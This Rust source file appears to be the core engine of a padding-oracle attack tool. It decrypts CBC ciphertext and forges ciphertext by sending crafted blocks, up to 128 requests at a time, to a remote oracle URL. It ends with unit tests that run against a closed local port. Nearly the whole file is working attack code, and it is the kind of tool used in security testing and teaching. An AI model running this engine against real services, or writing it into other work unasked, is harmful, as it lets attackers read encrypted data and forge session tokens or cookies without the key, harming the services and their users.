// The padding-oracle engine.
//
// CBC decryption is
//
//                 P_i = D(C_i) ⊕ C_{i-1},
//
// so whoever controls the block presented as C_{i-1} controls the decrypted
// P_i one XOR away from the fixed value D(C_i). Asking the oracle whether a
// crafted C_{i-1} ‖ C_i decrypts to valid padding leaks D(C_i) byte by
// byte: force the known tail of P_i to the padding value this round needs,
// vary one byte, and the candidate the oracle accepts satisfies
//
//            D(C_i)[k] = candidate ⊕ current_padding.
//
// Decryption and forgery are the same loop over three parallel buffers
// (reference bytes, found bytes, intermediate bytes); the modes differ only
// in which buffer feeds the payload and in the candidate ordering.

use std::collections::HashSet;

use tracing::{debug, warn};

use crate::error::{Error, Result};
use crate::oracle::{OracleCaller, SuccessPredicate};
use crate::probe::first_truthy;
use crate::progress::{ByteAttempt, ProgressSink};

pub const DEFAULT_CONCURRENCY: usize = 128;

/// Which attack the buffers encode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// `orig` is the real ciphertext; `found` collects plaintext.
    Decrypt,
    /// `orig` is the padded target plaintext; `found` collects the forged
    /// ciphertext and doubles as the payload source.
    Encrypt,
}

pub struct EngineOptions<'a> {
    pub caller: &'a OracleCaller,
    pub is_decryption_success: SuccessPredicate<'a>,
    pub progress: &'a dyn ProgressSink,
    pub mode: Mode,
    pub block_size: usize,
    pub block_count: usize,
    pub concurrency: usize,
    pub start_from_first_block: bool,
    pub init_first_block_with_orig: bool,
}

pub struct PaddingOracle<'a> {
    options: EngineOptions<'a>,
    orig: Vec<u8>,
    found: Vec<u8>,
    inter: Vec<u8>,
    found_offsets: HashSet<usize>,
    suspicious_hits: usize,
}

impl<'a> PaddingOracle<'a> {
    pub fn new(
        options: EngineOptions<'a>,
        orig: Vec<u8>,
        found: Vec<u8>,
        inter: Vec<u8>,
        found_offsets: HashSet<usize>,
    ) -> Self {
        Self {
            options,
            orig,
            found,
            inter,
            found_offsets,
            suspicious_hits: 0,
        }
    }

    pub fn into_buffers(self) -> (Vec<u8>, Vec<u8>, HashSet<usize>) {
        (self.found, self.inter, self.found_offsets)
    }

    pub async fn process_blocks(&mut self) -> Result<()> {
        let last = self.options.block_count.saturating_sub(1);
        let block_indexes: Vec<usize> = if self.options.start_from_first_block {
            (0..last).collect()
        } else {
            (0..last).rev().collect()
        };
        for block_index in block_indexes {
            self.process_block(block_index).await?;
        }
        Ok(())
    }

    async fn process_block(&mut self, block_index: usize) -> Result<()> {
        for byte_index in (0..self.options.block_size).rev() {
            let current_padding = (self.options.block_size - byte_index) as u8;
            let offset = block_index * self.options.block_size + byte_index;
            if self.found_offsets.contains(&offset) {
                continue;
            }
            let orig_byte = self.orig[offset];
            match self
                .probe_offset(block_index, byte_index, orig_byte, current_padding, offset)
                .await?
            {
                Some(candidate) => self.commit_byte(offset, candidate, orig_byte, current_padding),
                None => return Err(Error::OracleFailure { offset }),
            }
        }
        debug!(block_index, "block complete");
        if self.suspicious_hits > self.options.block_size / 2 {
            let message = "the parameter provided for determining decryption success \
                           seems to be incorrect";
            warn!("{message}");
            self.options.progress.warning(message);
            self.suspicious_hits = 0;
        }
        Ok(())
    }

    async fn probe_offset(
        &self,
        block_index: usize,
        byte_index: usize,
        orig_byte: u8,
        current_padding: u8,
        offset: usize,
    ) -> Result<Option<u8>> {
        let tasks = first_pass_candidates(self.options.mode, orig_byte).map(|candidate| {
            (
                candidate,
                self.try_candidate(block_index, byte_index, candidate, current_padding, offset),
            )
        });
        if let Some(winner) = first_truthy(tasks, self.options.concurrency).await? {
            return Ok(Some(winner));
        }
        // In decrypt mode the candidate equal to the real ciphertext byte
        // can validate merely because it reproduces the original block, so
        // it only gets a shot once every other value has failed.
        if self.options.mode == Mode::Decrypt
            && self
                .try_candidate(block_index, byte_index, orig_byte, current_padding, offset)
                .await?
        {
            return Ok(Some(orig_byte));
        }
        Ok(None)
    }

    async fn try_candidate(
        &self,
        block_index: usize,
        byte_index: usize,
        candidate: u8,
        current_padding: u8,
        offset: usize,
    ) -> Result<bool> {
        let payload = self.craft_payload(block_index, byte_index, candidate, current_padding);
        let response = self.options.caller.call(&payload).await?;
        let success = (self.options.is_decryption_success)(&response);
        self.options.progress.attempt(&ByteAttempt {
            block_index,
            byte_index,
            offset,
            candidate,
            success,
            working: self.payload_source(),
            found: &self.found,
            found_count: self.found_offsets.len(),
            block_size: self.options.block_size,
            stats: self.options.caller.stats(),
        });
        Ok(success)
    }

    /// The crafted first block followed by the real block it manipulates.
    fn craft_payload(
        &self,
        block_index: usize,
        byte_index: usize,
        candidate: u8,
        current_padding: u8,
    ) -> Vec<u8> {
        let block_size = self.options.block_size;
        let source = self.payload_source();
        let block_start = block_index * block_size;
        let mut payload = vec![0u8; block_size * 2];
        let (first, second) = payload.split_at_mut(block_size);
        if self.options.init_first_block_with_orig {
            first.copy_from_slice(&source[block_start..block_start + block_size]);
        }
        first[byte_index] = candidate;
        for i in byte_index + 1..block_size {
            // Steer every already-solved position to decrypt to the padding
            // value this round requires.
            first[i] = self.inter[block_start + i] ^ current_padding;
        }
        let second_start = block_start + block_size;
        second.copy_from_slice(&source[second_start..second_start + block_size]);
        payload
    }

    fn payload_source(&self) -> &[u8] {
        match self.options.mode {
            Mode::Decrypt => &self.orig,
            Mode::Encrypt => &self.found,
        }
    }

    fn commit_byte(&mut self, offset: usize, candidate: u8, orig_byte: u8, current_padding: u8) {
        if candidate == orig_byte {
            self.suspicious_hits += 1;
        }
        let inter_byte = candidate ^ current_padding;
        self.found[offset] = inter_byte ^ orig_byte;
        self.inter[offset] = inter_byte;
        self.found_offsets.insert(offset);
    }
}

/// Candidate ordering for the concurrent first pass. Decrypt mode holds the
/// original byte back for the sequential fallback.
fn first_pass_candidates(mode: Mode, orig_byte: u8) -> impl Iterator<Item = u8> {
    (0u16..=255)
        .map(|byte| byte as u8)
        .filter(move |&byte| mode != Mode::Decrypt || byte != orig_byte)
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::oracle::{OracleResult, RequestOptions};
    use crate::progress::NoProgress;
    use crate::transform::PayloadTransform;

    fn always_fail(_: &OracleResult) -> bool {
        false
    }

    fn offline_caller() -> OracleCaller {
        OracleCaller::new(
            "http://127.0.0.1:9/unreachable?ciphertext=",
            RequestOptions::default(),
            PayloadTransform::default(),
            None,
        )
        .unwrap()
    }

    fn engine<'a>(
        caller: &'a OracleCaller,
        mode: Mode,
        block_size: usize,
        orig: Vec<u8>,
        found: Vec<u8>,
        inter: Vec<u8>,
        found_offsets: HashSet<usize>,
    ) -> PaddingOracle<'a> {
        let block_count = match mode {
            Mode::Decrypt => orig.len() / block_size,
            Mode::Encrypt => found.len() / block_size,
        };
        PaddingOracle::new(
            EngineOptions {
                caller,
                is_decryption_success: &always_fail,
                progress: &NoProgress,
                mode,
                block_size,
                block_count,
                concurrency: 1,
                start_from_first_block: false,
                init_first_block_with_orig: false,
            },
            orig,
            found,
            inter,
            found_offsets,
        )
    }

    #[test]
    fn decrypt_first_pass_excludes_the_original_byte() {
        let candidates: Vec<u8> = first_pass_candidates(Mode::Decrypt, 0x42).collect();

        assert_eq!(candidates.len(), 255);
        assert!(!candidates.contains(&0x42));
    }

    #[test]
    fn encrypt_first_pass_tries_every_byte() {
        let candidates: Vec<u8> = first_pass_candidates(Mode::Encrypt, 0x42).collect();

        assert_eq!(candidates.len(), 256);
        assert!(candidates.contains(&0x42));
    }

    #[test]
    fn crafted_payload_forces_known_tail_bytes_to_the_padding_value() {
        let caller = offline_caller();
        // Probing byte 1 of block 0 in a 4-byte-block ciphertext; the two
        // higher offsets are already solved with known intermediates.
        let orig = vec![0x10, 0x11, 0x12, 0x13, 0x20, 0x21, 0x22, 0x23];
        let mut inter = vec![0u8; 4];
        inter[2] = 0xa0;
        inter[3] = 0xb0;
        let engine = engine(
            &caller,
            Mode::Decrypt,
            4,
            orig,
            vec![0u8; 4],
            inter,
            HashSet::from([2, 3]),
        );

        let payload = engine.craft_payload(0, 1, 0x7f, 3);

        assert_eq!(
            payload,
            vec![0x00, 0x7f, 0xa0 ^ 3, 0xb0 ^ 3, 0x20, 0x21, 0x22, 0x23]
        );
    }

    #[test]
    fn crafted_payload_can_be_seeded_with_the_original_block() {
        let caller = offline_caller();
        let orig = vec![0x10, 0x11, 0x12, 0x13, 0x20, 0x21, 0x22, 0x23];
        let mut engine = engine(
            &caller,
            Mode::Decrypt,
            4,
            orig,
            vec![0u8; 4],
            vec![0u8; 4],
            HashSet::new(),
        );
        engine.options.init_first_block_with_orig = true;

        let payload = engine.craft_payload(0, 3, 0xee, 1);

        assert_eq!(
            payload,
            vec![0x10, 0x11, 0x12, 0xee, 0x20, 0x21, 0x22, 0x23]
        );
    }

    #[test]
    fn encrypt_mode_reads_the_payload_from_the_forged_ciphertext() {
        let caller = offline_caller();
        let orig = vec![0x41; 4];
        let found = vec![0x00, 0x00, 0x00, 0x00, 0xca, 0xfe, 0xba, 0xbe];
        let engine = engine(
            &caller,
            Mode::Encrypt,
            4,
            orig,
            found,
            vec![0u8; 4],
            HashSet::new(),
        );

        let payload = engine.craft_payload(0, 3, 0x01, 1);

        assert_eq!(payload[4..], [0xca, 0xfe, 0xba, 0xbe]);
    }

    #[test]
    fn committing_a_byte_records_both_buffers_and_the_offset() {
        let caller = offline_caller();
        let mut engine = engine(
            &caller,
            Mode::Decrypt,
            4,
            vec![0x55; 8],
            vec![0u8; 4],
            vec![0u8; 4],
            HashSet::new(),
        );

        engine.commit_byte(3, 0x9c, 0x55, 0x01);

        assert_eq!(engine.inter[3], 0x9c ^ 0x01);
        assert_eq!(engine.found[3], 0x9c ^ 0x01 ^ 0x55);
        assert!(engine.found_offsets.contains(&3));
        assert_eq!(engine.suspicious_hits, 0);
    }

    #[test]
    fn committing_the_original_byte_bumps_the_suspicion_counter() {
        let caller = offline_caller();
        let mut engine = engine(
            &caller,
            Mode::Decrypt,
            4,
            vec![0x55; 8],
            vec![0u8; 4],
            vec![0u8; 4],
            HashSet::new(),
        );

        engine.commit_byte(3, 0x55, 0x55, 0x01);

        assert_eq!(engine.suspicious_hits, 1);
    }

    #[tokio::test]
    async fn fully_seeded_blocks_are_skipped_without_any_network_call() {
        // The caller points at a closed port; any attempted request would
        // surface as a transport error.
        let caller = offline_caller();
        let found = vec![0xd0, 0xd1, 0xd2, 0xd3];
        let inter = vec![0xe0, 0xe1, 0xe2, 0xe3];
        let mut engine = engine(
            &caller,
            Mode::Decrypt,
            4,
            vec![0x55; 8],
            found.clone(),
            inter.clone(),
            HashSet::from([0, 1, 2, 3]),
        );

        engine.process_blocks().await.unwrap();

        let (found_after, inter_after, _) = engine.into_buffers();
        assert_eq!(found_after, found);
        assert_eq!(inter_after, inter);
        assert_eq!(caller.stats().requests, 0);
    }
}
